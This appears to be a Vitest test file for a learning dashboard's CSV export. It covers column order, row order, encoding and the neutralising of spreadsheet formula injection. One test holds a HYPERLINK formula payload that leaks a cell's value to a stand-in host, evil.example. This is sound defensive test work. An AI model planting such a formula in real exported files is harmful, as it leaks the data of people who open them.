import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { dashboardCsv, type ExportRow } from "~/teaching/export";
import type { ProgressCell } from "~/teaching/progress";

const DUE = Date.UTC(2026, 11, 16, 12);

const cell: ProgressCell = {
  status: "behind",
  lessonsRead: 2,
  lessonCount: 5,
  cardsLearned: 7,
  deckSize: 20,
  predictedRetention: 0.4256,
  reviewsLast7Days: 12,
  progress: 0.375,
  expectedProgress: 0.5,
  dueAt: DUE,
};

const row = (learnerName: string | null, over: Partial<ExportRow> = {}): ExportRow => ({
  learnerName,
  learnerEmail: "ada@example.org",
  moduleTitle: "Cell biology",
  cell,
  ...over,
});

/** The file read back as a spreadsheet would split it into cells. */
function cells(csv: string): string[][] {
  expect(csv.startsWith("\uFEFF")).toBe(true);
  return Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
}

describe("the dashboard CSV export", () => {
  it("has a header row and the columns in a fixed order", () => {
    const [header, first] = cells(dashboardCsv([row("Ada Lovelace")]));
    expect(header).toEqual([
      "Learner",
      "Email",
      "Module",
      "Status",
      "Lessons read",
      "Lessons",
      "Cards learned",
      "Cards",
      "Predicted retention at due date (%)",
      "Reviews in last 7 days",
      "Due (UTC)",
    ]);
    expect(first).toEqual([
      "Ada Lovelace", "ada@example.org", "Cell biology", "behind", "2", "5", "7", "20", "43", "12", "2026-12-16T12:00:00.000Z",
    ]);
  });

  it("keeps the rows in the order given (the dashboard's risk order)", () => {
    const data = cells(dashboardCsv([row("Zoë"), row("Ada"), row(null)])).slice(1);
    expect(data.map((r) => r[0])).toEqual(["Zoë", "Ada", ""]);
  });

  it('a learner named "=HYPERLINK(...)" or "-2+3" is written as text, not a formula', () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
    const csv = dashboardCsv([row(hyperlink), row("-2+3")]);
    const [, first, second] = cells(csv);
    expect(first![0]).toBe(`'${hyperlink}`);
    expect(second![0]).toBe("'-2+3");
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"`);
  });

  it("every formula start is neutralised: + @ tab, carriage return, spaces before =, and = before a line break", () => {
    const names = ["+1", "@SUM(A1:A9)", "\tx", "\rx", "  =1+1", "=1+1\nsecond line"];
    const data = cells(dashboardCsv(names.map((n) => row(n)))).slice(1);
    expect(data.map((r) => r[0])).toEqual(names.map((n) => `'${n}`));
  });

  it("papaparse's own escapeFormulae misses = before a line break, which is why the export brings its own pattern", () => {
    expect(Papa.unparse([["=1+1\nx"]], { escapeFormulae: true })).toBe('"=1+1\nx"');
  });

  it("module titles and emails are neutralised too; text with those characters later on is left alone", () => {
    const [, first] = cells(dashboardCsv([row("Ann-Marie O'Neil", { moduleTitle: "=1+1", learnerEmail: "+x@example.org" })]));
    expect(first!.slice(0, 3)).toEqual(["Ann-Marie O'Neil", "'+x@example.org", "'=1+1"]);
  });

  it("a module without cards has a blank retention, not 0%", () => {
    const [, first] = cells(dashboardCsv([row("Ada", { cell: { ...cell, predictedRetention: null, deckSize: 0 } })]));
    expect(first![8]).toBe("");
  });

  it("lines end in CRLF and the file starts with a byte-order mark, so Excel reads names with accents", () => {
    const csv = dashboardCsv([row("Zoë")]);
    expect(csv.startsWith("\uFEFFLearner,")).toBe(true);
    expect(csv.split("\r\n")).toHaveLength(3); // header, one row, the final line break
  });

  it("an empty cohort is the header alone", () => {
    expect(cells(dashboardCsv([]))).toHaveLength(1);
  });
});
